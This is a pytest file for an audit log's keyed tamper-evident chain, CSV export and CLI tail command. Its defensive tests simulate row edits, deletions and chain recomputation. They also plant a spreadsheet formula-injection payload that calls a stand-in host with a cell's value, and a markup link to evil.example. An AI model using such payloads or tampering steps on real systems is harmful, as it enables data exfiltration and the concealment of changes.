"""The audit log records changes with who, what and where, and its keyed chain catches
tampering: an edited, removed or newest-removed row, and a chain recomputed without the key."""

from __future__ import annotations

import csv
import hashlib
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text
from sqlmodel import col, select
from typer.testing import CliRunner

from tme.cli.audit_cmd import app as audit_cli
from tme.config import Settings, load_settings
from tme.controller.services.audit import head_mac, row_mac, verify_chain
from tme.controller.store.db import session_scope
from tme.controller.store.security_models import AuditEntry, AuditHead
from tme.errors import ConfigError

KEY = "audit-key-for-these-tests-0123456789"


@pytest.fixture
def app_settings(tmp_path):  # type: ignore[no-untyped-def]
    return Settings(
        database={"url": f"sqlite:///{tmp_path}/tme.db"},
        broker={"url": "memory://"},
        auth={"audit_key": KEY},
    )


@pytest.fixture(autouse=True)
def audit_key_env(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """`tme audit verify` reads the key from the environment, as an operator would give it."""
    monkeypatch.setenv("TME_AUTH__AUDIT_KEY", KEY)


def _verify(engine) -> list[tuple[int, str]]:  # type: ignore[no-untyped-def]
    with session_scope(engine) as session:
        return [(p.entry_id, p.problem) for p in verify_chain(session, KEY.encode())[1]]


def _rows(engine) -> list[AuditEntry]:  # type: ignore[no-untyped-def]
    with session_scope(engine) as session:
        return list(session.exec(select(AuditEntry).order_by(col(AuditEntry.id))).all())


def _changes(test_client: TestClient) -> int:
    task = test_client.post("/api/v1/tasks", json={"name": "audited"}).json()
    # a run reported started is in flight and keeps its task; a finished one does not
    test_client.put(f"/task/{task['id']}/", json={"status": "complete"})
    test_client.patch(f"/api/v1/tasks/{task['id']}", json={"description": "changed"})
    test_client.delete(f"/api/v1/tasks/{task['id']}")
    return int(task["id"])


def test_changes_are_recorded_with_who_what_where(test_client, app_engine) -> None:  # type: ignore[no-untyped-def]
    task_id = _changes(test_client)
    with session_scope(app_engine) as session:
        rows = session.exec(select(AuditEntry).order_by(AuditEntry.id)).all()  # type: ignore[arg-type]
    changes = [r for r in rows if r.action.startswith("task.write")]
    assert [r.target.split()[0] for r in changes] == ["POST", "PUT", "PATCH", "DELETE"]
    assert all(r.actor == "admin" and r.client and r.outcome == "ok" for r in changes)
    assert changes[0].details["location"] == f"/api/v1/tasks/{task_id}"
    assert changes[1].details["reported_status"] == "complete"
    assert changes[2].details["fields"] == ["description"]


def test_a_task_is_never_committed_without_its_audit_row(
    test_client, app_engine, monkeypatch
) -> None:  # type: ignore[no-untyped-def]
    """A REST create and its audit row share one transaction: when the row cannot be
    appended the task is not stored, and the request fails instead of leaving a change
    nobody can account for."""
    from tme.controller.services import audit
    from tme.controller.store.models import Task

    def broken(*_args, **_kwargs):  # type: ignore[no-untyped-def]
        raise RuntimeError("the audit log cannot be written")

    monkeypatch.setattr(audit, "append_rows", broken)
    with TestClient(
        test_client.app, headers=test_client.headers, raise_server_exceptions=False
    ) as client:
        answer = client.post("/api/v1/tasks", json={"name": "unaccounted"})
    assert answer.status_code == 500
    with session_scope(app_engine) as session:
        assert session.exec(select(Task).where(Task.name == "unaccounted")).all() == []


def test_api_lists_filters_and_exports_csv(test_client, make_token) -> None:  # type: ignore[no-untyped-def]
    _changes(test_client)
    page = test_client.get("/api/v1/audit", params={"action": "task.write", "limit": 2}).json()
    assert len(page["items"]) == 2 and page["next_before_id"]
    assert all(i["action"].startswith("task.write") for i in page["items"])
    for url, params in (
        ("/api/v1/audit.csv", {"actor": "admin"}),
        ("/api/v1/audit", {"actor": "admin", "format": "csv"}),
    ):
        response = test_client.get(url, params=params)
        assert response.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert len(rows) >= 4 and {r["actor"] for r in rows} == {"admin"}
    engineer = {"Authorization": f"Bearer {make_token('engineer')}"}
    assert test_client.get("/api/v1/audit", headers=engineer).status_code == 403


def test_an_admin_of_some_sites_cannot_read_the_log_of_every_site(test_client, make_token) -> None:  # type: ignore[no-untyped-def]
    """The log has no site to filter on, and its rows name other sites' tasks, devices
    and users: an admin scoped to sites is refused it (403) in JSON and CSV, as /metrics."""
    other = test_client.post(
        "/api/v1/tasks", json={"name": "elsewhere", "target": {"site": "site-b"}}
    ).json()
    scoped = {"Authorization": f"Bearer {make_token('admin', 'site-a')}"}
    for url, params in (
        ("/api/v1/audit", {}),
        ("/api/v1/audit", {"format": "csv"}),
        ("/api/v1/audit.csv", {}),
    ):
        response = test_client.get(url, params=params, headers=scoped)
        assert response.status_code == 403, (url, params, response.text[:200])
        assert f"/api/v1/tasks/{other['id']}" not in response.text
        assert "grant of all sites" in response.json()["error"]["message"]
    assert test_client.get("/api/v1/audit").status_code == 200  # the admin of every site


@pytest.mark.parametrize(
    ("url", "params"),
    [("/api/v1/audit", {}), ("/api/v1/audit", {"format": "csv"}), ("/api/v1/audit.csv", {})],
)
def test_a_period_that_ends_before_it_starts_is_refused_naming_since(
    test_client, url: str, params: dict[str, str]
) -> None:  # type: ignore[no-untyped-def]
    """It answered no rows, as if nothing had happened then."""
    _changes(test_client)
    backwards = {"since": "2026-12-02T00:00:00Z", "until": "2026-12-01T00:00:00+00:00"}
    response = test_client.get(url, params={**params, **backwards})
    assert response.status_code == 422, response.text[:200]
    assert [d["field"] for d in response.json()["error"]["details"]] == ["since"]


def test_csv_export_opens_as_text_not_formulas(test_client, anonymous) -> None:  # type: ignore[no-untyped-def]
    """A failed login audits whatever name was sent, by anyone: a spreadsheet must not
    run it. Cells that would start a formula are made text with a leading quote."""
    planted = '=HYPERLINK("http://x.invalid/?"&A1,"x")'
    login = {"username": planted, "password": "not-the-password"}
    assert anonymous.post("/api/v1/auth/login", json=login).status_code == 401
    text = test_client.get("/api/v1/audit.csv", params={"action": "auth."}).text
    actors = [r["actor"] for r in csv.DictReader(io.StringIO(text))]
    assert "'" + planted in actors
    assert planted not in actors


def test_tail_prints_a_planted_name_as_it_is(test_client, anonymous, app_settings) -> None:  # type: ignore[no-untyped-def]
    """Anyone can put a name in the log with a failed login: `tme audit tail` prints it as
    text, where "[/]" in it stopped the command with rich's MarkupError."""
    planted = "x [/] [link=https://evil.example]y[/link]"
    login = {"username": planted, "password": "not-the-password"}
    assert anonymous.post("/api/v1/auth/login", json=login).status_code == 401
    result = CliRunner().invoke(audit_cli, ["tail", "--db", app_settings.database.url])
    assert result.exit_code == 0, result.output
    assert planted in result.stdout.replace("\n", "")


def test_untouched_log_verifies(test_client, app_engine, app_settings) -> None:  # type: ignore[no-untyped-def]
    _changes(test_client)
    assert len(_rows(app_engine)) >= 4
    assert _verify(app_engine) == []
    result = CliRunner().invoke(audit_cli, ["verify", "--db", app_settings.database.url])
    assert result.exit_code == 0, result.output
    assert "audit log intact" in result.output


def test_rows_are_keyed_with_the_configured_key(test_client, app_engine) -> None:  # type: ignore[no-untyped-def]
    _changes(test_client)
    rows = _rows(app_engine)
    assert all(r.hash == row_mac(r, KEY.encode()) for r in rows)
    with session_scope(app_engine) as session:
        problems = verify_chain(session, b"another-key-entirely-0123456789")[1]
    assert len(problems) == len(rows) + 1  # every row and the head fail under another key


def test_edited_row_is_detected(test_client, app_engine, app_settings) -> None:  # type: ignore[no-untyped-def]
    _changes(test_client)
    with app_engine.begin() as connection:
        connection.execute(text("UPDATE audit_log SET actor = 'someone' WHERE id = 2"))
    assert [(i, "edited" in p) for i, p in _verify(app_engine)] == [(2, True)]
    result = CliRunner().invoke(audit_cli, ["verify", "--db", app_settings.database.url])
    assert result.exit_code == 1 and "row 2" in result.output


def test_removed_middle_row_is_detected(test_client, app_engine) -> None:  # type: ignore[no-untyped-def]
    _changes(test_client)
    with app_engine.begin() as connection:
        connection.execute(text("DELETE FROM audit_log WHERE id = 3"))
    assert [(i, "missing" in p) for i, p in _verify(app_engine)] == [(4, True)]


def test_removed_newest_row_is_detected(test_client, app_engine, app_settings) -> None:  # type: ignore[no-untyped-def]
    _changes(test_client)
    newest = _rows(app_engine)[-1].id
    with app_engine.begin() as connection:
        connection.execute(text("DELETE FROM audit_log WHERE id = :id"), {"id": newest})
    assert [(i, "newest rows removed" in p) for i, p in _verify(app_engine)] == [(newest, True)]
    result = CliRunner().invoke(audit_cli, ["verify", "--db", app_settings.database.url])
    assert result.exit_code == 1 and f"row {newest}" in result.output


def test_removed_newest_row_and_head_are_detected(test_client, app_engine) -> None:  # type: ignore[no-untyped-def]
    _changes(test_client)
    rows = _rows(app_engine)
    with app_engine.begin() as connection:
        connection.execute(text("DELETE FROM audit_log WHERE id = :id"), {"id": rows[-1].id})
        connection.execute(text("DELETE FROM audit_head"))
    assert [(i, "head record missing" in p) for i, p in _verify(app_engine)] == [
        (rows[-2].id, True)
    ]


def test_a_log_from_before_the_head_chains_on_from_its_newest_row(test_client, app_engine) -> None:  # type: ignore[no-untyped-def]
    """A log written before the head record existed: the next append links to its
    newest row, and the head is created naming the new one."""
    _changes(test_client)
    with app_engine.begin() as connection:
        connection.execute(text("DELETE FROM audit_head"))
    before = _rows(app_engine)
    test_client.post("/api/v1/tasks", json={"name": "after the head"})
    after = _rows(app_engine)
    assert len(after) == len(before) + 1
    assert after[-1].prev_hash == before[-1].hash
    with session_scope(app_engine) as session:
        head = session.get(AuditHead, 1)
        assert head is not None and (head.last_id, head.last_hash) == (after[-1].id, after[-1].hash)
    assert _verify(app_engine) == []


def test_a_row_mac_cannot_stand_in_for_the_head(test_client, app_engine) -> None:  # type: ignore[no-untyped-def]
    """Cut the newest row and point the head at the row before with a MAC the attacker
    holds (the removed row's): the head's own domain makes it fail."""
    _changes(test_client)
    rows = _rows(app_engine)
    with app_engine.begin() as connection:
        connection.execute(text("DELETE FROM audit_log WHERE id = :id"), {"id": rows[-1].id})
        connection.execute(
            text("UPDATE audit_head SET last_id = :id, last_hash = :hash, mac = :mac"),
            {"id": rows[-2].id, "hash": rows[-2].hash, "mac": rows[-1].hash},
        )
    assert [(i, "head record edited" in p) for i, p in _verify(app_engine)] == [(rows[-2].id, True)]


def _rechain(engine, mac_of) -> None:  # type: ignore[no-untyped-def]
    """What someone with write access to the database does: edit, then recompute."""
    with session_scope(engine) as session:
        rows = session.exec(select(AuditEntry).order_by(col(AuditEntry.id))).all()
        rows[1].actor = "someone-else"
        previous = ""
        for row in rows:
            row.prev_hash = previous
            row.hash = mac_of(row)
            previous = row.hash
            session.add(row)
        head = session.get(AuditHead, 1)
        assert head is not None
        head.last_hash = previous
        head.mac = hashlib.sha256(f"{head.last_id}{previous}".encode()).hexdigest()
        session.add(head)


def test_chain_recomputed_with_a_wrong_key_is_detected(
    test_client, app_engine, app_settings
) -> None:  # type: ignore[no-untyped-def]
    _changes(test_client)
    wrong = b"guessed-audit-key-0123456789"
    _rechain(app_engine, lambda row: row_mac(row, wrong))
    with session_scope(app_engine) as session:  # the forger's head, under the same wrong key
        head = session.get(AuditHead, 1)
        assert head is not None
        head.mac = head_mac(head.last_id, head.last_hash, wrong)
    problems = _verify(app_engine)
    count = len(_rows(app_engine))
    assert len(problems) == count + 1 and all("edited" in p for _, p in problems)
    result = CliRunner().invoke(audit_cli, ["verify", "--db", app_settings.database.url])
    assert result.exit_code == 1 and "audit log tampered" in result.output


def test_chain_recomputed_as_plain_sha256_is_detected(test_client, app_engine) -> None:  # type: ignore[no-untyped-def]
    """The chain as it was before it had a key: anyone could recompute it."""
    import json

    def plain(row: AuditEntry) -> str:
        fields = [row.id, row.at.isoformat(), row.actor, row.action, row.target, row.outcome,
                  row.client, row.details, row.prev_hash]  # fmt: skip
        canonical = json.dumps(fields, sort_keys=True, separators=(",", ":"), default=str)
        return hashlib.sha256(canonical.encode()).hexdigest()

    _changes(test_client)
    _rechain(app_engine, plain)
    problems = _verify(app_engine)
    assert problems and all("without the audit key" in p for _, p in problems[:-1])
    assert "head record edited" in problems[-1][1]


def test_audit_key_is_a_secret_refused_empty_in_production(tmp_path: Path) -> None:
    from tme.config import effective_items

    base = {
        "TME_ENVIRONMENT": "production",
        "TME_AUTH__SECRET_KEY": "a-strong-session-signing-key-0123",
        "TME_BROKER__PASSWORD": "rabbit-pass",
    }
    for weak in ({}, {"TME_AUTH__AUDIT_KEY": "changeme"}, {"TME_AUTH__AUDIT_KEY": "short"}):
        with pytest.raises(ConfigError) as info:
            load_settings(config_dir=tmp_path, environ={**base, **weak})
        assert "auth.audit_key" in info.value.message
    key_file = tmp_path / "audit_key"
    key_file.write_text(KEY + "\n", encoding="utf-8")
    settings = load_settings(
        config_dir=tmp_path, environ={**base, "TME_AUTH__AUDIT_KEY_FILE": str(key_file)}
    )
    assert settings.auth.audit_key.get_secret_value() == KEY
    items = {key: value for key, value, _source in effective_items(settings)}
    assert items["auth.audit_key"] == "****"
